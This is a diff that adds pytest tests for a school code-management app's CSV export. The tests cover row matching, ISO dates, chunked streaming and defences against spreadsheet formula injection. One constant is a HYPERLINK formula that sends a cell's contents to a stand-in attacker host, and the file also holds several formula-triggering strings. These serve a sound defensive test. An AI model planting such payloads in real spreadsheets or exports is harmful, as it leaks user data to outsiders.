@@ -1,0 +1,179 @@
+"""Export CSV: exactly the rows the filtered table shows, all pages, with a header,
+ISO 8601 dates and cells a spreadsheet cannot run as formulas."""
+import csv
+import io
+from datetime import date, datetime, timedelta
+
+import pytest
+from sqlalchemy import select
+
+from codes.access import Scope
+from codes.bulk import operations
+from codes.bulk.operations import EXPORT_HEADER, BatchInput, csv_chunks, generate_batch, inert
+from codes.extensions import db
+from codes.manage.operations import deactivate
+from codes.models import Code, utcnow
+from codes.redeem.operations import redeem
+from codes.timeutil import to_local, to_utc
+from conftest import Factory, soup
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your grade")'
+
+
+@pytest.fixture
+def school(make):
+    org = make.org(name="Oak School", timezone="America/New_York")
+    algebra = make.course(org, "Algebra")
+    room = make.classroom(org, "Room 9A")
+    return org, room, algebra
+
+
+@pytest.fixture
+def admin(client, school):
+    client.login(school[0].admin)
+    return client
+
+
+def batch_of(org, n, prefix="", **fields):
+    fields.setdefault("classroom_ids", [org.classrooms[0].id])
+    data = BatchInput(count=n, prefix=prefix, **fields)
+    batch = generate_batch(org.admin, Scope(org.admin, org), data)
+    db.session.commit()
+    return batch
+
+
+def download(client, org, **args):
+    response = client.get(f"/orgs/{org.id}/bulk/export.csv", query_string=args)
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"].startswith('attachment; filename="codes-')
+    assert response.is_streamed
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    assert rows[0] == EXPORT_HEADER
+    return [dict(zip(EXPORT_HEADER, row, strict=True)) for row in rows[1:]]
+
+
+def table(client, org, **args):
+    """Every row of the table across its pages, as (code, targets, uses, expires, status)."""
+    seen, number = [], 1
+    while True:
+        page = soup(client.get(f"/orgs/{org.id}/bulk", query_string={**args, "page": number}))
+        for tr in page.select("#codes-table tr.code-row"):
+            seen.append(tuple(td.get_text(" ", strip=True) for td in tr.find_all("td")[:5]))
+        if page.select_one(".pager a[rel=next]") is None:
+            return seen
+        number += 1
+
+
+def as_table_row(row):
+    uses = f"{row['Uses']} / {row['Max uses'] or '∞'}"
+    expires = datetime.fromisoformat(row["Expires"]).date().isoformat() if row["Expires"] else "Never"
+    return (row["Code"], row["Course / classroom"], uses, expires, row["Status"])
+
+
+@pytest.fixture
+def many(school, make):
+    org, room, algebra = school
+    until = to_utc(org, date(2099, 1, 31), end_of_day=True)
+    big = batch_of(org, 130, prefix="BIG", course_ids=[algebra.id], valid_until=until, max_uses=3)
+    small = batch_of(org, 7, prefix="SMALL", max_uses=None)
+    make.code(org, "CUSTOM-PTA-2027", classrooms=[room], courses=[algebra])
+    first = db.session.scalar(select(Code).where(Code.batch_id == big.id).order_by(Code.id))
+    deactivate(org.admin, first)
+    db.session.commit()
+    return big, small
+
+
+@pytest.mark.parametrize("args", [
+    {}, {"batch": "big"}, {"batch": "small"}, {"q": "big"}, {"batch": "big", "q": "q"}, {"q": "nothing"},
+])
+def test_export_has_exactly_the_rows_of_the_filtered_table(admin, school, many, args):
+    org = school[0]
+    big, small = many
+    if "batch" in args:
+        args = {**args, "batch": {"big": big.id, "small": small.id}[args["batch"]]}
+    shown = table(admin, org, **args)
+    exported = download(admin, org, **args)
+    assert [as_table_row(row) for row in exported] == shown
+    if args == {}:
+        assert len(exported) == 130 + 7 + 1 + 1, "both batches, the custom code and the join code"
+
+
+def test_values_and_iso_dates(admin, school, many):
+    org, room, algebra = school
+    big, small = many
+    rows = {row["Code"]: row for row in download(admin, org)}
+    code = db.session.scalar(select(Code).where(Code.batch_id == big.id).order_by(Code.id.desc()))
+    row = rows[code.text]
+    assert row["Course / classroom"] == "Room 9A, Algebra"
+    assert (row["Uses"], row["Max uses"], row["Status"], row["Role"], row["Batch"]) == \
+        ("0", "3", "Active", "student", str(big.id))
+    expires = datetime.fromisoformat(row["Expires"])
+    assert expires.utcoffset() == timedelta(hours=-5)
+    assert expires == to_local(org, code.valid_until).replace(microsecond=0)
+    assert row["Expires"] == "2099-01-31T23:59:59-05:00"
+    created = datetime.fromisoformat(row["Created"])
+    assert abs(created - to_local(org, utcnow())) < timedelta(minutes=5)
+    custom = rows["CUSTOM-PTA-2027"]
+    assert (custom["Max uses"], custom["Expires"], custom["Batch"]) == ("", "", "")
+    deactivated = [r for r in rows.values() if r["Status"] == "Deactivated"]
+    assert len(deactivated) == 1
+
+
+def test_formula_payloads_in_text_cells_are_inert(admin, school, make):
+    org, room, algebra = school
+    evil_room = make.classroom(org, HYPERLINK)
+    plus_course = make.course(org, "+1 Extra credit")
+    make.code(org, "-DASH-FIRST", classrooms=[evil_room])
+    make.code(org, "PLUS-COURSE-1", courses=[plus_course])
+    rows = {row["Code"]: row for row in download(admin, org)}
+    assert rows["'-DASH-FIRST"]["Course / classroom"] == "'" + HYPERLINK
+    assert rows["PLUS-COURSE-1"]["Course / classroom"] == "'+1 Extra credit"
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx"])
+def test_cells_that_start_a_formula_get_an_apostrophe(cell):
+    assert inert(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["Room 9A", "", 3, "a=b", "2027-01-01T00:00:00+00:00"])
+def test_other_cells_stay_as_they_are(cell):
+    assert inert(cell) == cell
+
+
+def test_csv_comes_in_pieces_of_rows():
+    pieces = list(csv_chunks(["A"], ([n] for n in range(2500)), chunk=1000))
+    assert len(pieces) == 3
+    assert pieces[0].startswith("\ufeffA\r\n0\r\n")
+    assert [len(p.splitlines()) for p in pieces] == [1001, 1000, 500]
+
+
+def test_redeemed_uses_and_used_status_are_exported(admin, school, make):
+    org, room, algebra = school
+    batch = batch_of(org, 2)
+    code = db.session.scalar(select(Code).where(Code.batch_id == batch.id).order_by(Code.id))
+    redeem(make.user("Sam"), code.text)
+    db.session.commit()
+    rows = {row["Code"]: row for row in download(admin, org, batch=batch.id)}
+    assert (rows[code.text]["Uses"], rows[code.text]["Status"]) == ("1", "Used")
+
+
+def test_rows_in_many_chunks_keep_their_targets_on_both_databases(any_db_app, monkeypatch):
+    """Read in chunks (here of 4 rows), each chunk looks up its own codes' targets."""
+    monkeypatch.setattr(operations, "EXPORT_CHUNK", 4)
+    make = Factory()
+    org = make.org(name="Oak School")
+    algebra, biology = make.course(org, "Algebra"), make.course(org, "Biology")
+    room = make.classroom(org, "Room 9A")
+    scope = Scope(org.admin, org)
+    both = generate_batch(org.admin, scope, BatchInput(count=5, classroom_ids=[room.id],
+                                                       course_ids=[biology.id, algebra.id]))
+    one = generate_batch(org.admin, scope, BatchInput(count=6, course_ids=[biology.id]))
+    db.session.commit()
+    rows = list(operations.export_rows(scope, operations.CodeFilter()))
+    by_batch = {}
+    for row in rows:
+        by_batch.setdefault(row[7], set()).add(row[1])
+    assert by_batch == {one.id: {"Biology"}, both.id: {"Room 9A, Algebra, Biology"},
+                        "": {"Room 9A"}}
+    assert len(rows) == 5 + 6 + 1
